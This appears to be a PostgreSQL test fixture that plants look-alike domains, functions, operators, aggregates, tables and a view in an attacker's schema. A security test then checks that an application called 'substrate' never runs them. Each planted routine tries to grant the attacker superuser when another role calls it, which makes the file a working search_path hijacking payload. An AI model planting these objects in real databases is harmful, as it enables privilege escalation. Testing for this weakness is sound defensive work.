-- Look-alike objects planted by an attacker in schema :"plant" (pg_temp, a
-- schema of its own first on its search_path, or public).  Every planted
-- routine raises a WARNING carrying the marker PLANT-CALLED and, when it
-- runs as anyone but the attacker, tries to make the attacker superuser.
-- test/suites/57_security.sh asserts that no substrate call ever runs one.
--   psql -v plant=pg_temp -v attacker=ROLE -v types=domain -f plants.sql
-- types=domain plants domains named like the types the substrate uses;
-- types=composite plants composite types of those names instead, with casts
-- from the real types to them (a cast needs a type its creator owns).
-- Everything here is schema-qualified: the attacker's own SQL must not trip
-- its own plants.
SET client_min_messages = warning;
SET search_path = pg_catalog, pg_temp;
SELECT set_config('plant.schema', :'plant', false), set_config('plant.attacker', :'attacker', false),
	   set_config('plant.types', :'types', false);

DO $plant$
DECLARE
	s pg_catalog.text := pg_catalog.current_setting('plant.schema');
	who pg_catalog.text := pg_catalog.current_setting('plant.attacker');
	payload pg_catalog.text;
	r record;
	n pg_catalog.int4 := 0;
BEGIN
	-- the payload every plant runs (@@NAME@@: which plant)
	payload := pg_catalog.format($p$
		RAISE WARNING 'PLANT-CALLED %% by %%', %L, current_user;
		IF current_user::pg_catalog.text OPERATOR(pg_catalog.<>) %L THEN
			BEGIN
				EXECUTE pg_catalog.format('ALTER ROLE %%I SUPERUSER', %L);
			EXCEPTION WHEN OTHERS THEN NULL;
			END;
		END IF;$p$, s || '.@@NAME@@', who, who);

	-- the recorder a domain CHECK calls
	EXECUTE pg_catalog.format($f$CREATE FUNCTION %I.plant_check(v anyelement) RETURNS pg_catalog.bool
		LANGUAGE plpgsql AS $b$BEGIN %s RETURN true; END$b$$f$, s, pg_catalog.replace(payload, '@@NAME@@', 'domain check'));

	-- domains named like the types the substrate's queries use
	FOR r IN SELECT * FROM (VALUES ('text', 'pg_catalog.text'), ('bool', 'pg_catalog.bool'),
			('int4', 'pg_catalog.int4'), ('int8', 'pg_catalog.int8'), ('jsonb', 'pg_catalog.jsonb'),
			('bytea', 'pg_catalog.bytea'), ('tid', 'pg_catalog.tid'), ('timestamptz', 'pg_catalog.timestamptz'),
			('numeric', 'pg_catalog.numeric'), ('name', 'pg_catalog.name'), ('oid', 'pg_catalog.oid'),
			('lifecycle', 'pg_catalog.text'), ('component_type', 'pg_catalog.text'),
			('readiness', 'pg_catalog.text'), ('business_status', 'pg_catalog.text'),
			('attestor_type', 'pg_catalog.text'), ('attestation_type', 'pg_catalog.text'),
			('attestation_outcome', 'pg_catalog.text'), ('subject_kind', 'pg_catalog.text'),
			('actor_kind', 'pg_catalog.text')) AS t(n, base)
	LOOP
		IF pg_catalog.current_setting('plant.types') OPERATOR(pg_catalog.=) 'domain' THEN
			EXECUTE pg_catalog.format('CREATE DOMAIN %I.%I AS %s CHECK (%I.plant_check(VALUE))', s, r.n, r.base, s);
		ELSE
			-- a composite type of the name, and an implicit cast into it
			n := n OPERATOR(pg_catalog.+) 1;
			EXECUTE pg_catalog.format('CREATE TYPE %I.%I AS (v %s)', s, r.n, r.base);
			EXECUTE pg_catalog.format('CREATE FUNCTION %I.plant_cast_%s(a %s) RETURNS %I.%I LANGUAGE plpgsql AS $b$BEGIN %s RETURN NULL; END$b$',
				s, n, r.base, s, r.n, pg_catalog.replace(payload, '@@NAME@@', 'cast to ' || r.n));
			EXECUTE pg_catalog.format('CREATE CAST (%s AS %I.%I) WITH FUNCTION %I.plant_cast_%s(%s) AS IMPLICIT',
				r.base, s, r.n, s, n, r.base);
		END IF;
	END LOOP;

	-- functions named like the ones the substrate's queries call
	FOR r IN SELECT * FROM (VALUES
			('unnest', 'anyarray', 'SETOF anyelement', NULL),
			('now', '', 'pg_catalog.timestamptz', '''2000-01-01''::pg_catalog.timestamptz'),
			('clock_timestamp', '', 'pg_catalog.timestamptz', '''2000-01-01''::pg_catalog.timestamptz'),
			('array_cat', 'pg_catalog.text[], pg_catalog.text[]', 'pg_catalog.text[]', '''{}'''),
			('cardinality', 'anyarray', 'pg_catalog.int4', '0'),
			('jsonb_typeof', 'pg_catalog.jsonb', 'pg_catalog.text', '''object'''),
			('jsonb_build_object', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.jsonb', '''{}'''),
			('jsonb_build_object', 'pg_catalog.text, pg_catalog.jsonb', 'pg_catalog.jsonb', '''{}'''),
			('jsonb_set', 'pg_catalog.jsonb, pg_catalog.text[], pg_catalog.jsonb', 'pg_catalog.jsonb', '''{}'''),
			('to_jsonb', 'anyelement', 'pg_catalog.jsonb', '''{}'''),
			('length', 'pg_catalog.text', 'pg_catalog.int4', '0'),
			('left', 'pg_catalog.text, pg_catalog.int4', 'pg_catalog.text', '''x'''),
			('substr', 'pg_catalog.text, pg_catalog.int4', 'pg_catalog.text', '''x'''),
			('lower', 'pg_catalog.text', 'pg_catalog.text', '''x'''),
			('upper', 'pg_catalog.text', 'pg_catalog.text', '''x'''),
			('format', 'pg_catalog.text', 'pg_catalog.text', '''x'''),
			('decode', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.bytea', '''\x00'''),
			('encode', 'pg_catalog.bytea, pg_catalog.text', 'pg_catalog.text', '''x'''),
			('convert_to', 'pg_catalog.text, pg_catalog.name', 'pg_catalog.bytea', '''\x00'''),
			('sha256', 'pg_catalog.bytea', 'pg_catalog.bytea', '''\x00'''),
			('nextval', 'pg_catalog.regclass', 'pg_catalog.int8', '1'),
			('current_setting', 'pg_catalog.text', 'pg_catalog.text', '''x'''),
			('set_config', 'pg_catalog.text, pg_catalog.text, pg_catalog.bool', 'pg_catalog.text', '''x'''),
			('pg_advisory_xact_lock', 'pg_catalog.int8', 'void', NULL),
			('textcat', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.text', '''x'''),
			('jsonb_strip_nulls', 'pg_catalog.jsonb', 'pg_catalog.jsonb', '''{}'''),
			('array_length', 'anyarray, pg_catalog.int4', 'pg_catalog.int4', '0'),
			('array_agg', 'anyelement', 'anyarray', NULL),
			('core_text_array', 'pg_catalog.jsonb, pg_catalog.text', 'pg_catalog.text[]', '''{}'''),
			('component_ref_keys', 'pg_catalog.text, pg_catalog.text[], pg_catalog.text[], pg_catalog.text[]', 'pg_catalog.text[]', '''{}'''),
			('substrate_writing', '', 'pg_catalog.bool', 'true'),
			('transaction_hashes', 'pg_catalog.text', 'pg_catalog.text', '''x'''),
			('foray_hash', 'pg_catalog.jsonb', 'pg_catalog.text', '''x''')) AS t(n, args, ret, val)
	LOOP
		IF r.val IS NULL THEN
			IF r.ret OPERATOR(pg_catalog.=) 'void' THEN
				EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS void LANGUAGE plpgsql AS $b$BEGIN %s END$b$',
					s, r.n, r.args, pg_catalog.replace(payload, '@@NAME@@', r.n));
			ELSIF pg_catalog.starts_with(r.ret, 'SETOF') THEN
				EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS $b$BEGIN %s RETURN; END$b$',
					s, r.n, r.args, r.ret, pg_catalog.replace(payload, '@@NAME@@', r.n));
			ELSE
				CONTINUE;	-- aggregates: below
			END IF;
		ELSE
			EXECUTE pg_catalog.format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS $b$BEGIN %s RETURN %s; END$b$',
				s, r.n, r.args, r.ret, pg_catalog.replace(payload, '@@NAME@@', r.n), r.val);
		END IF;
	END LOOP;

	-- aggregates named like pg_catalog's
	EXECUTE pg_catalog.format($f$CREATE FUNCTION %I.plant_sfunc(st pg_catalog.int8, v anyelement) RETURNS pg_catalog.int8
		LANGUAGE plpgsql AS $b$BEGIN %s RETURN 0; END$b$$f$, s, pg_catalog.replace(payload, '@@NAME@@', 'aggregate'));
	EXECUTE pg_catalog.format('CREATE AGGREGATE %I.count(anyelement) (SFUNC = %I.plant_sfunc, STYPE = pg_catalog.int8)', s, s);
	EXECUTE pg_catalog.format('CREATE AGGREGATE %I.string_agg(anyelement) (SFUNC = %I.plant_sfunc, STYPE = pg_catalog.int8)', s, s);
	EXECUTE pg_catalog.format('CREATE AGGREGATE %I.jsonb_object_agg(anyelement) (SFUNC = %I.plant_sfunc, STYPE = pg_catalog.int8)', s, s);

	-- operators, for the operand types the substrate compares (not in
	-- pg_temp: PostgreSQL never looks operators up there, and refuses them)
	IF s OPERATOR(pg_catalog.<>) 'pg_temp' THEN
		FOR r IN SELECT o, l, rt, ret FROM
				(VALUES ('='), ('<>'), ('<'), ('>'), ('<='), ('>=')) AS ops(o),
				(VALUES ('pg_catalog.text', 'pg_catalog.text'), ('pg_catalog.int8', 'pg_catalog.int8'),
						('pg_catalog.int4', 'pg_catalog.int4'), ('pg_catalog.bool', 'pg_catalog.bool'),
						('pg_catalog.tid', 'pg_catalog.tid'), ('pg_catalog.jsonb', 'pg_catalog.jsonb'),
						('pg_catalog.text', 'pg_catalog.text[]'), ('pg_catalog.text[]', 'pg_catalog.text[]'),
						('foray.lifecycle', 'foray.lifecycle'), ('foray.readiness', 'foray.readiness'),
						('foray.component_type', 'foray.component_type'), ('foray.lifecycle', 'pg_catalog.text'),
						('foray.readiness', 'pg_catalog.text')) AS ty(l, rt),
				(VALUES ('pg_catalog.bool')) AS rv(ret)
			UNION ALL
			SELECT * FROM (VALUES
				('||', 'pg_catalog.text[]', 'pg_catalog.text[]', 'pg_catalog.text[]'),
				('||', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.text'),
				('||', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.jsonb'),
				('->', 'pg_catalog.jsonb', 'pg_catalog.text', 'pg_catalog.jsonb'),
				('->>', 'pg_catalog.jsonb', 'pg_catalog.text', 'pg_catalog.text'),
				('#>>', 'pg_catalog.jsonb', 'pg_catalog.text[]', 'pg_catalog.text'),
				('-', 'pg_catalog.jsonb', 'pg_catalog.text', 'pg_catalog.jsonb'),
				('@>', 'pg_catalog.text[]', 'pg_catalog.text[]', 'pg_catalog.bool'),
				('@>', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.bool'),
				('&&', 'pg_catalog.text[]', 'pg_catalog.text[]', 'pg_catalog.bool'),
				('+', 'pg_catalog.int8', 'pg_catalog.int8', 'pg_catalog.int8'),
				('+', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.int4')) AS extra(o, l, rt, ret)
		LOOP
			n := n OPERATOR(pg_catalog.+) 1;
			EXECUTE pg_catalog.format('CREATE FUNCTION %I.plant_op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $b$BEGIN %s RETURN NULL; END$b$',
				s, n, r.l, r.rt, r.ret, pg_catalog.replace(payload, '@@NAME@@', 'operator ' || r.o));
			EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.plant_op_%s)',
				s, r.o, r.l, r.rt, s, n);
		END LOOP;
		-- a collation named like the one the substrate sorts ids with
		EXECUTE pg_catalog.format('CREATE COLLATION %I."C" (provider = icu, locale = %L)', s, 'und-u-kf-upper');
	END IF;

	-- tables named like the substrate's, whose writes or reads would show
	EXECUTE pg_catalog.format($f$CREATE FUNCTION %I.plant_trigger() RETURNS trigger
		LANGUAGE plpgsql AS $b$BEGIN %s RETURN NULL; END$b$$f$, s, pg_catalog.replace(payload, '@@NAME@@', 'trigger'));
	FOR r IN SELECT * FROM (VALUES ('foray_transactions'), ('foray_components'), ('foray_attestations'),
			('memory_events'), ('event_kinds')) AS t(n)
	LOOP
		BEGIN
			EXECUTE pg_catalog.format('CREATE TABLE %I.%I (LIKE foray.%I)', s, r.n, r.n);
		EXCEPTION WHEN insufficient_privilege THEN
			EXECUTE pg_catalog.format('CREATE TABLE %I.%I (transaction_id pg_catalog.text)', s, r.n);
		END;
		EXECUTE pg_catalog.format('CREATE TRIGGER plant BEFORE INSERT OR UPDATE OR DELETE ON %I.%I FOR EACH ROW EXECUTE FUNCTION %I.plant_trigger()',
			s, r.n, s);
		EXECUTE pg_catalog.format('CREATE TRIGGER plant_truncate BEFORE TRUNCATE ON %I.%I FOR EACH STATEMENT EXECUTE FUNCTION %I.plant_trigger()',
			s, r.n, s);
	END LOOP;
	-- a view a read could pick up
	EXECUTE pg_catalog.format('CREATE VIEW %I.anchor_queue AS SELECT %L::pg_catalog.text AS transaction_id, %I.plant_check(1) AS created_at', s, 'PLANTED', s);
END
$plant$;
